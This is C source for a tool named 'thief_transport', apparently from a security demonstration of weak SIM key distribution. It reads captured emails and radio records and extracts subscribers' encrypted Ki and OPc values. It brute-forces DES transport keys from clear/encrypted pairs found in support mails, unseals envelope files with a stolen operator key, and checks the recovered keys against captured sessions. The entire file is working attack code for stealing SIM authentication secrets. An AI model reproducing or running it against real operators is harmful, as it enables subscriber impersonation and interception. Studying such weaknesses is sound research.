/* thief_transport - reads the mail, and opens what is encrypted in it.
 *
 *     simrite-thief-transport CAPTURED OUT
 *
 * CAPTURED holds mail/ and radio.pcapng, and any of: transport-key.hex, the key both sides shared (8 bytes of
 * DES or 16 of AES); des-space.txt, what is known of a DES key that was not got: it is then searched for,
 * with a clear and an encrypted key that a support mail compares; envelope-key.hex and bureau-public.hex, the
 * operator's private key of sealed files, and the bureau's public one.
 *
 * Of a support mail it wants two numbers of 32 hex digits near the words "transport key": as in the mails of
 * 2010, in which supplier and operator compare the clear Ki and the one encrypted "by transport key using
 * DES CBC". The first half of either is a block of DES, with CBC and a zero IV as with ECB.
 *
 * Without such a mail the radio record serves as well: whatever key decrypts a subscriber's record to what
 * fits his sessions is it. A guess then costs a Milenage and four DES, a thousand times as much as in the
 * search by words of 512 keys; so only a small space is searched so. */
#include <inttypes.h>
#include <stdlib.h>
#include <string.h>

#include "theft/attempt.h"
#include "theft/captured.h"
#include "theft/mail.h"
#include "theft/table.h"
#include "theft/unseal.h"
#include "weak/des_search.h"
#include "weak/transport.h"

#include "crypto/p256.h"

enum {
	PAIRS_MAX = 8,
	HEX_MAX = 6,       /* numbers looked at in one mail */
	DES_BITS_MAX = 40, /* what a thief in a demonstration would search */
	RECORD_BITS_MAX = 20,
	RECORD_CHUNK = 256,
};

struct encrypted {
	char imsi[16];
	enum transport_cipher cipher;
	uint8_t k[16], opc[16];
};

struct pair {
	uint8_t clear[16], cipher[16];
};

struct transport {
	struct attempt attempt;
	uint8_t key[TRANSPORT_KEY_MAX];
	size_t key_length;
	bool has_space;
	struct captured_space space;
	bool has_envelope_key;
	struct unseal_keys envelope;
	struct encrypted *records;
	size_t record_count;
	struct pair pairs[PAIRS_MAX];
	unsigned pair_count, mails, sealed, unsealed;
	struct swept swept; /* all searches together */
	const char *engine;
	/* For the search on the record: a card's, and a session of it. */
	const struct encrypted *tried;
	const struct session *session;
};

/* ---- what is in the mail ---- */

static void keep_record(struct transport *t, const struct table *table)
{
	struct encrypted record = {.imsi = ""}, *grown;

	(void)snprintf(record.imsi, sizeof(record.imsi), "%.15s", table_field(table, "IMSI"));
	if (transport_named(&record.cipher, table_field(table, "Cipher")) < 0 ||
	    !table_bytes(table, "Ki", record.k, 16) || !table_bytes(table, "OPc", record.opc, 16))
		return;
	grown = realloc(t->records, (t->record_count + 1) * sizeof(*grown));
	if (!grown)
		return; /* a thief with less memory finds less */
	t->records = grown;
	grown[t->record_count++] = record;
}

static void read_table(struct transport *t, const struct mail_part *part)
{
	static const char *const needed[] = {"IMSI", "Ki", "OPc", "Transport_key", "Cipher", NULL};
	struct table table;

	if (table_find(&table, part->text, part->length, needed))
		while (table_next(&table))
			keep_record(t, &table);
}

/* A clear key and what it became, in either order: every ordered pair of the first numbers. */
static void read_pairs(struct transport *t, const struct mail_part *part)
{
	uint8_t number[HEX_MAX][16];
	const char *at = part->text;
	unsigned count = 0, a, b;
	size_t n;
	char hex[33];

	if (!strcasestr(part->text, "transport key"))
		return;
	while (*at && count < HEX_MAX) {
		at += strcspn(at, "0123456789abcdefABCDEF");
		n = strspn(at, "0123456789abcdefABCDEF");
		if (n == 32) {
			(void)snprintf(hex, sizeof(hex), "%.32s", at);
			count += table_hex(number[count], 16, hex);
		}
		at += n;
	}
	for (a = 0; a < count; a++)
		for (b = 0; b < count && t->pair_count < PAIRS_MAX; b++)
			if (a != b) {
				memcpy(t->pairs[t->pair_count].clear, number[a], 16);
				memcpy(t->pairs[t->pair_count++].cipher, number[b], 16);
			}
}

static void try_unsealed(void *context, const char *imsi, const uint8_t k[static 16],
			 const uint8_t opc[static 16])
{
	struct transport *t = context;

	(void)attempt_key(&t->attempt, imsi, k, opc, "a sealed file");
}

static void read_mail(void *context, const char *name, const struct mail *mail)
{
	struct transport *t = context;

	(void)name;
	t->mails++;
	for (size_t i = 0; i < mail->count; i++) {
		const struct mail_part *part = &mail->parts[i];

		if (unseal_is(part->text, part->length)) {
			t->sealed++;
			t->unsealed += t->has_envelope_key &&
				       unseal(part->text, part->length, &t->envelope, try_unsealed, t) > 0;
		} else {
			read_table(t, part);
			read_pairs(t, part);
		}
	}
}

/* ---- the key ---- */

static int note_search(struct transport *t, const struct swept *swept, const char *engine)
{
	t->engine = engine;
	t->swept.tried += swept->tried;
	t->swept.seconds += swept->seconds;
	t->swept.busy += swept->busy;
	if (!swept->found)
		return 0;
	t->swept.found = true;
	t->swept.at = swept->at;
	des_key(t->key, swept->at);
	t->key_length = 8;
	return 1;
}

/* The search knows the first block only; the second must agree, or these two numbers have nothing in common.
 */
static bool agrees(const struct pair *pair, uint64_t number)
{
	uint8_t key[8], out[16];

	des_key(key, number);
	for (enum transport_cipher c = TRANSPORT_DES_CBC; c <= TRANSPORT_DES_ECB; c++)
		if (transport_encrypt(out, c, key, pair->clear) == 0 &&
		    !memcmp(out, pair->cipher, sizeof(out)))
			return true;
	return false;
}

static int search_pair(struct transport *t, const struct pair *pair)
{
	struct des_search search = {
		.first = t->space.first, .bits = t->space.bits, .engine = des_engine_best()};
	struct swept swept;

	memcpy(search.plain, pair->clear, 8);
	memcpy(search.cipher, pair->cipher, 8);
	if (des_search(&swept, &search) < 0)
		return -1;
	swept.found = swept.found && agrees(pair, swept.at);
	return note_search(t, &swept, search.engine->name);
}

static bool fits(const struct transport *t, uint64_t number)
{
	uint8_t key[8], k[16], opc[16];

	des_key(key, number);
	return transport_decrypt(k, t->tried->cipher, key, t->tried->k) == 0 &&
	       transport_decrypt(opc, t->tried->cipher, key, t->tried->opc) == 0 &&
	       break_in_fits(t->session, k, opc);
}

static bool try_numbers(void *context, uint64_t first, uint64_t length, uint64_t *found)
{
	const struct transport *t = context;

	for (uint64_t i = first; i < first + length; i++)
		if (fits(t, t->space.first + i)) {
			*found = t->space.first + i;
			return true;
		}
	return false;
}

/* The first encrypted record of somebody who was heard. */
static bool choose(struct transport *t)
{
	for (size_t r = 0; r < t->record_count; r++)
		for (size_t s = 0; s < t->attempt.record.count; s++)
			if (t->records[r].cipher != TRANSPORT_AES_ECB &&
			    !strcmp(t->records[r].imsi, t->attempt.record.sessions[s].imsi)) {
				t->tried = &t->records[r];
				t->session = &t->attempt.record.sessions[s];
				return true;
			}
	return false;
}

static int search_on_record(struct transport *t)
{
	struct sweep sweep = {.chunk = RECORD_CHUNK, .work = try_numbers, .context = t};
	struct swept swept;

	if (t->space.bits > RECORD_BITS_MAX || !choose(t))
		return 0;
	sweep.count = 1ULL << t->space.bits;
	if (sweep_run(&swept, &sweep) < 0)
		return -1;
	return note_search(t, &swept, "on the radio record");
}

static int search(struct transport *t, struct fault *fault)
{
	int got = 0;

	if (t->key_length || !t->has_space || t->space.bits > DES_BITS_MAX)
		return 0;
	for (unsigned i = 0; i < t->pair_count && got == 0; i++)
		if ((got = search_pair(t, &t->pairs[i])) < 0)
			return fault_set(fault, FAULT_INPUT, NULL, "des-space.txt tells of no space of keys");
	if (got == 0 && search_on_record(t) < 0)
		return fault_set(fault, FAULT_SYSTEM, NULL, "the search did not start");
	return 0;
}

static void decrypt_all(struct transport *t)
{
	uint8_t k[16], opc[16];

	for (size_t i = 0; i < t->record_count; i++) {
		const struct encrypted *r = &t->records[i];

		if (transport_key_length(r->cipher) == t->key_length &&
		    transport_decrypt(k, r->cipher, t->key, r->k) == 0 &&
		    transport_decrypt(opc, r->cipher, t->key, r->opc) == 0)
			(void)attempt_key(&t->attempt, r->imsi, k, opc, "an encrypted file");
	}
}

/* ---- */

static int no_random(void *context, void *out, size_t length)
{
	(void)context;
	memset(out, 1, length); /* it only blinds, and nobody watches a thief's power */
	return 0;
}

static int take_envelope_key(struct transport *t, const char *captured, struct fault *fault)
{
	static const struct p256_random source = {.fill = no_random};
	struct unseal_keys *keys = &t->envelope;
	int own = captured_hex(keys->recipient, sizeof(keys->recipient), captured, "envelope-key.hex", fault);
	int other = own < 1 ? own
			    : captured_hex(keys->sender_public, sizeof(keys->sender_public), captured,
					   "bureau-public.hex", fault);

	if (own < 0 || other < 0)
		return -1;
	t->has_envelope_key = own == 32 && other == 65 &&
			      p256_public(keys->recipient_public, keys->recipient, &source) == OK;
	return 0;
}

/* A DES key whose parity is wrong was misread, and is none. */
static bool sound(const uint8_t key[static 8])
{
	uint8_t again[8];

	des_key(again, des_key_number(key));
	return !memcmp(again, key, sizeof(again));
}

static int take(struct transport *t, const char *captured, struct fault *fault)
{
	int got = captured_hex(t->key, sizeof(t->key), captured, "transport-key.hex", fault);

	if (got < 0)
		return -1;
	t->key_length = got == 8 && !sound(t->key) ? 0 : (size_t)got;
	got = captured_space(&t->space, captured, "des-space.txt", fault);
	t->has_space = got == 1;
	return got < 0 ? -1 : take_envelope_key(t, captured, fault);
}

static void tell(const struct transport *t)
{
	char more[512];
	int n = snprintf(more, sizeof(more),
			 ",\"mails\":%u,\"encrypted\":%zu,\"sealed\":%u,\"unsealed\":%u,\"pairs\":%u",
			 t->mails, t->record_count, t->sealed, t->unsealed, t->pair_count);

	if (t->engine)
		(void)snprintf(more + n, sizeof(more) - (size_t)n,
			       ",\"engine\":\"%s\",\"space_bits\":%u,\"searched\":%" PRIu64
			       ",\"search_seconds\":%.3f,\"keys_per_second\":%.0f,\"found\":%s,"
			       "\"full_des_core_years_extrapolated\":%.1f",
			       t->engine, t->space.bits, t->swept.tried, t->swept.seconds,
			       t->swept.seconds > 0 ? (double)t->swept.tried / t->swept.seconds : 0,
			       t->swept.found ? "true" : "false",
			       t->swept.tried ? 36028797018963968.0 / (double)t->swept.tried * t->swept.busy /
							(365.25 * 86400)
					      : 0);
	attempt_tell(&t->attempt, "transport", more);
}

static int steal(const char *captured, const char *out, struct fault *fault)
{
	static struct transport t;
	int e = take(&t, captured, fault);

	if (e == 0 && (e = attempt_begin(&t.attempt, captured, out, fault)) == 0) {
		e = captured_mails(captured, read_mail, &t, fault) < 0 ? -1 : search(&t, fault);
		if (e == 0)
			decrypt_all(&t);
		if (attempt_end(&t.attempt, fault) < 0)
			e = -1;
	}
	if (e == 0)
		tell(&t);
	attempt_free(&t.attempt);
	free(t.records);
	return e;
}

int main(int argc, char **argv)
{
	return attempt_main(argc, argv, "transport", steal);
}
